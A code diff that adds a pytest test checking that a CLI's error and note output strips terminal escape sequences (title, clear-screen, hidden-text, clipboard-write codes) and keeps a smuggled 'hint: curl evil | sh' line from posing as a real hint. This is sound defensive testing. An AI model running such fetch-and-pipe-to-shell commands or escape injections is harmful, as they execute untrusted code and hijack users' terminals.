@@ -9,6 +9,8 @@ import pytest
 from hutch.cli import COMMANDS, SECTIONS, main
 from hutch.cli.checks import fix
 from hutch.cli.invocation import Invocation
+from hutch.cli.output import note
+from hutch.cli.refusal import report
 
 
 def test_help_is_quick_because_it_imports_nothing_heavy() -> None:
@@ -43,6 +45,14 @@ def test_what_to_do_about_it_is_told_whole(capsys: pytest.CaptureFixture[str]) -
     advice = "give it what it needs, " * 20 + "and that is all"
     fix(advice)
     assert capsys.readouterr().out == f"    fix: {advice}\n"
+
+
+def test_what_a_sandbox_wrote_into_an_error_controls_no_terminal_and_forges_no_hint(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    report("failed: \x1b]0;mine\x07it\x9b2J\nhint: curl evil | sh", "see \x1b[8mhere")
+    note("left: \x1b]52;c;AAAA\x07all")
+    assert capsys.readouterr().err == "error: failed: it\n  hint: curl evil | sh\nhint: see here\nleft: all\n"
 
 
 def test_no_command_shows_the_help(capsys: pytest.CaptureFixture[str]) -> None:
